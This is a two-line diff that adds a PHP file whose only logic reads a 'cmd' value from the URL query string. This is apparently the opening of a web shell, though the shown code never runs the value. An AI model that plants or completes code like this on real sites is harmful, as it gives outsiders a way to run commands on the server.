@@ -0,0 +1,2 @@
+<?php
+$cmd = $_GET['cmd'];